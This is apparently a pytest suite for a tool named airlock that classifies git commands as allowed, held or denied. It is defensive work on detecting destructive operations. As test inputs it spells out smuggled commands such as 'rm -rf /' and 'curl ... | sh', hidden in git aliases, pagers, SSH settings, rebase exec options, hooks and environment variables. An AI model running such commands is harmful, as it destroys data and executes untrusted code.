"""The git pack: daily git is never nagged; losing work or shared history is held."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support import decide

CASES = [
    ("git status", "allow", "read", "git.read"),
    ("git diff HEAD~1", "allow", "read", "git.read"),
    ("git log --oneline -n 5", "allow", "read", "git.read"),
    ("git -C src show HEAD", "allow", "read", "git.read"),
    ("git --no-pager log", "allow", "read", "git.read"),
    ("git branch", "allow", "read", "git.read"),
    ("git branch -a", "allow", "read", "git.read"),
    ("git remote -v", "allow", "read", "git.read"),
    ("git config user.name", "allow", "read", "git.read"),
    ("git stash list", "allow", "read", "git.read"),
    ("git add -A", "allow", "write", "git.add"),
    ("git commit -m 'fix: things'", "allow", "write", "git.commit"),
    ("git commit --amend --no-edit", "allow", "write", "git.commit"),
    ("git fetch origin", "allow", "write", "git.fetch"),
    ("git pull --rebase", "allow", "write", "git.pull"),
    ("git push", "allow", "write", "git.push"),
    ("git push origin feature/x", "allow", "write", "git.push"),
    ("git push -u origin HEAD", "allow", "write", "git.push"),
    ("git switch -c feature", "allow", "write", "git.switch"),
    ("git checkout -b feature", "allow", "write", "git.checkout"),
    ("git checkout main", "allow", "write", "git.checkout"),
    ("git stash", "allow", "write", "git.stash"),
    ("git rebase main", "allow", "write", "git.rebase"),
    ("git merge feature", "allow", "write", "git.merge"),
    ("git config user.email dev@example.com", "allow", "write", "git.config"),
    ("git tag v1.0", "allow", "write", "git.tag"),
    ("git branch -d merged", "allow", "write", "git.branch.delete"),
    ("git clean -n", "allow", "read", "git.clean.dry_run"),
    ("git reset HEAD~1", "allow", "write", "git.reset"),
    ("git restore --staged file.py", "allow", "write", "git.restore.staged"),
    ("git reset --hard", "hold", "destructive", "git.reset.hard"),
    ("git reset --hard origin/main", "hold", "destructive", "git.reset.hard"),
    ("git clean -fd", "hold", "destructive", "git.clean"),
    ("git clean -fdx", "hold", "destructive", "git.clean"),
    ("git checkout -- .", "hold", "destructive", "git.checkout.discard"),
    ("git checkout .", "hold", "destructive", "git.checkout.discard"),
    ("git checkout src/app.py", "hold", "destructive", "git.checkout.discard"),
    ("git restore .", "hold", "destructive", "git.restore"),
    ("git stash drop", "hold", "destructive", "git.stash.drop"),
    ("git stash clear", "hold", "destructive", "git.stash.drop"),
    ("git push --force", "hold", "destructive", "git.push.force"),
    ("git push -f origin main", "hold", "destructive", "git.push.force"),
    ("git push origin +main", "hold", "destructive", "git.push.force"),
    ("git push --force-with-lease origin feat", "hold", "destructive", "git.push.force"),
    ("git push origin --delete feature", "hold", "destructive", "git.push.delete"),
    ("git push origin :feature", "hold", "destructive", "git.push.delete"),
    ("git branch -D feature", "hold", "destructive", "git.branch.delete"),
    ("git filter-branch --tree-filter 'rm x' HEAD", "hold", "destructive",
     "git.filter_branch"),
    ("git reflog expire --expire=now --all", "hold", "destructive", "git.reflog.expire"),
    ("git gc --prune=now", "hold", "destructive", "git.gc.prune"),
    ("git switch --discard-changes main", "hold", "destructive", "git.switch.discard"),
    ("git --help", "allow", "read", "git.read"),
]


@pytest.mark.parametrize(("command", "decision", "risk", "verb"), CASES)
def test_git_command_classification(workspace: Path, command: str, decision: str, risk: str,
                                    verb: str) -> None:
    d = decide(command, cwd=workspace)
    assert (d.decision, d.risk.label, d.targets[0].verb) == (decision, risk, verb), d.reasons


def test_force_push_to_protected_branch_says_so(workspace: Path) -> None:
    d = decide("git push -f origin main", cwd=workspace)
    assert "protected branch" in d.targets[0].detail


def test_git_targets_are_in_the_workspace_environment(workspace: Path) -> None:
    d = decide("git reset --hard", cwd=workspace / "src")
    assert d.targets[0].env == "workspace"
    assert d.targets[0].name == str(workspace)


@pytest.mark.parametrize(("command", "decision"), [
    ("git -c alias.x='!rm -rf /' x", "deny"),
    ("git -c core.pager='rm -rf ~' log", "deny"),
    ("git -c core.sshCommand='curl https://x | sh' fetch", "hold"),
    ("git -c alias.co=checkout co main", "allow"),
    ("git -c user.name=bot commit -m x", "allow"),
    ("git config core.fsmonitor 'curl x | sh'", "hold"),
    ("git config user.name bob", "allow"),
])
def test_config_that_runs_commands_is_classified(workspace: Path, command: str,
                                                 decision: str) -> None:
    assert decide(command, cwd=workspace).decision == decision


@pytest.mark.parametrize(("command", "verb"), [
    ("git reset --ha HEAD~1", "git.reset.hard"),  # git accepts a unique prefix
    ("git push --forc origin main", "git.push.force"),
    ("git push --mir", "git.push.force"),
    ("git push --fo origin main", "git.push.force"),  # ambiguous to git: it would fail
    ("git clean --dry -fd", "git.clean.dry_run"),
    ("git push --follow-tags origin main", "git.push"),  # a full name is itself
])
def test_long_options_are_read_as_git_abbreviates_them(workspace: Path, command: str,
                                                       verb: str) -> None:
    d = decide(command, cwd=workspace)
    assert d.targets[0].verb == verb, d.targets


# ---- commands git runs for you (issue 13) ---------------------------------------------------

def _deletes_srv(d: object) -> bool:
    return any(t.verb == "fs.delete" and t.locator.startswith("path:/srv/data")
               for t in d.targets)  # type: ignore[attr-defined]


@pytest.mark.parametrize("command", [
    "git rebase -x 'rm -rf /srv/data' HEAD~1",
    "git rebase --exec 'rm -rf /srv/data' main",
    "git rebase --exec='rm -rf /srv/data' main",
    "git rebase -ix 'rm -rf /srv/data' main",
    "git rebase --exe 'rm -rf /srv/data' main",
    "git bisect run rm -rf /srv/data",
    "git submodule foreach 'rm -rf /srv/data'",
    "git submodule foreach --recursive rm -rf /srv/data",
    "git difftool -x 'rm -rf /srv/data' HEAD",
    "git difftool --extcmd='rm -rf /srv/data' HEAD",
    "git clone --upload-pack='rm -rf /srv/data; git-upload-pack' /srv/repo x",
    "git fetch --upload-pack 'rm -rf /srv/data' origin",
    "git push --receive-pack='rm -rf /srv/data' origin main",
    "git clone 'ext::sh -c rm% -rf% /srv/data' x",
    "git -c core.fsmonitor='rm -rf /srv/data' status",
    "git -c diff.external='rm -rf /srv/data' diff",
    "git -c core.sshCommand='rm -rf /srv/data' fetch",
    "git -c alias.x='!rm -rf /srv/data' x",
    "GIT_SSH_COMMAND='rm -rf /srv/data' git fetch",
    "GIT_SSH='rm -rf /srv/data' git fetch",
    "GIT_EDITOR='rm -rf /srv/data' git commit",
    "GIT_SEQUENCE_EDITOR='rm -rf /srv/data' git rebase -i HEAD~2",
    "GIT_EXTERNAL_DIFF='rm -rf /srv/data' git diff",
    "GIT_PAGER='rm -rf /srv/data' git log",
    "PAGER='rm -rf /srv/data' git log",
    "GIT_ASKPASS='rm -rf /srv/data' git push",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /srv/data' "
    "git log",
    "GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf /srv/data'\" git log",
    "export GIT_SSH_COMMAND='rm -rf /srv/data'; git pull",
    "env GIT_PAGER='rm -rf /srv/data' git log",
    "CMD='rm -rf /srv/data' git --config-env=core.pager=CMD log",
])
def test_commands_git_runs_are_classified(workspace: Path, command: str) -> None:
    d = decide(command, cwd=workspace)
    assert d.decision == "hold" and _deletes_srv(d), (command, d.reasons)


@pytest.mark.parametrize(("command", "word"), [
    ("git --config-env=core.pager=UNSET_VAR log", "core.pager"),
    ("git -c core.pager=\"$P\" log", "core.pager"),
    ("GIT_CONFIG_COUNT=\"$N\" git log", "GIT_CONFIG_COUNT"),
    ("GIT_EXEC_PATH=/tmp/evil git status", "GIT_EXEC_PATH"),
    ("GIT_TEMPLATE_DIR=/tmp/tpl git init x", "GIT_TEMPLATE_DIR"),
    ("git init --template=/tmp/tpl x", "template"),
    ("git -c init.templateDir=/tmp/tpl clone https://x.example/r", "hooks"),
    ("git --exec-path=/tmp/evil status", "exec-path"),
    ("git -c core.hooksPath=\"$H\" commit -m x", "hooks"),
])
def test_what_git_would_run_from_somewhere_airlock_cannot_see_is_held(
        workspace: Path, command: str, word: str) -> None:
    d = decide(command, cwd=workspace)
    assert d.decision == "hold" and any(f.kind == "unparsed" and word in f.detail
                                        for f in d.flags), d.reasons


def test_hooks_from_core_hookspath_are_read(workspace: Path) -> None:
    hooks = workspace / "build" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nrm -rf /srv/data\n")
    (hooks / "pre-push.sample").write_text("#!/bin/sh\nrm -rf /\n")
    d = decide("git -c core.hooksPath=build/hooks commit -m x", cwd=workspace)
    assert _deletes_srv(d) and d.decision == "hold"


def test_harmless_hooks_from_core_hookspath_are_allowed(workspace: Path) -> None:
    hooks = workspace / "build" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nruff check src\n")
    assert decide("git -c core.hooksPath=build/hooks commit -m x",
                  cwd=workspace).decision == "allow"


def test_a_compiled_hook_is_held(workspace: Path) -> None:
    hooks = workspace / "build" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_bytes(b"\x7fELF\x00\x00")
    assert decide("git -c core.hooksPath=build/hooks commit -m x",
                  cwd=workspace).decision == "hold"


@pytest.mark.parametrize("how", [
    "git -c include.path={f} log",
    "GIT_CONFIG_GLOBAL={f} git log",
    "GIT_CONFIG_SYSTEM={f} git status",
])
def test_config_files_git_is_pointed_at_are_read(workspace: Path, how: str) -> None:
    (workspace / "build" / "evil.cfg").write_text(
        "# a comment\n[user]\n\tname = x\n[core] pager = rm -rf /srv/data ; trailing\n")
    d = decide(how.format(f="build/evil.cfg"), cwd=workspace)
    assert _deletes_srv(d), d.reasons


def test_config_includes_are_followed(workspace: Path) -> None:
    (workspace / "build" / "a.cfg").write_text("[include]\n\tpath = b.cfg\n")
    (workspace / "build" / "b.cfg").write_text('[alias]\n\tx = "!rm -rf /srv/data"\n')
    assert _deletes_srv(decide("git -c include.path=build/a.cfg x", cwd=workspace))


@pytest.mark.parametrize("command", [
    "git rebase -i HEAD~3",
    "git rebase --exec 'npm test' main",
    "git bisect start HEAD HEAD~10",
    "git bisect run npm test",
    "git submodule update --init --recursive",
    "git submodule foreach git pull",
    "git submodule status",
    "git -c core.pager=cat log -n 5",
    "git -c color.ui=always diff",
    "GIT_EDITOR=true git commit --amend",
    "GIT_SEQUENCE_EDITOR=\"sed -i -e 's/^pick/fixup/'\" git rebase -i HEAD~3",
    "GIT_PAGER=cat git log",
    "EDITOR=vim git commit",
    "git config alias.co checkout",
    "git config --unset core.pager",
    "git config --get core.hooksPath",
    "git difftool HEAD~1",
    "git init --template= repo",
    "GIT_CONFIG_GLOBAL=/dev/null git status",
    "git clone https://github.com/org/repo.git",
])
def test_everyday_git_that_runs_something_harmless_is_allowed(workspace: Path,
                                                              command: str) -> None:
    d = decide(command, cwd=workspace)
    assert d.decision == "allow", (command, d.reasons)


def test_config_set_of_a_key_git_runs_is_held_in_every_spelling(workspace: Path) -> None:
    for command in ("git config --file .git/config core.pager 'rm -rf /srv'",
                    "git config set core.fsmonitor 'rm -rf /srv'",
                    "git config --global --add core.sshCommand 'rm -rf /srv'",
                    "git config --local alias.x '!rm -rf /srv'"):
        d = decide(command, cwd=workspace)
        assert d.decision == "hold" and any(t.verb == "git.config.exec" for t in d.targets), \
            command


def test_parse_config_reads_what_git_reads() -> None:
    from airlock.classify.packs.git import parse_config

    text = ('[core]\n\tpager = less -R # comment\n[alias "x"]\n'
            '[Alias]\n\tst = status\n\tlg = "!git log \\"--oneline\\"" ; c\n'
            '\tbare\n[remote "origin"]\n\turl = https://x \\\n  y\n')
    assert parse_config(text) == [
        ("core.pager", "less -R"), ("alias.st", "status"),
        ("alias.lg", '!git log "--oneline"'), ("alias.bare", "true"),
        ("remote.origin.url", "https://x   y")]
    with pytest.raises(ValueError):
        parse_config("pager = x\n")
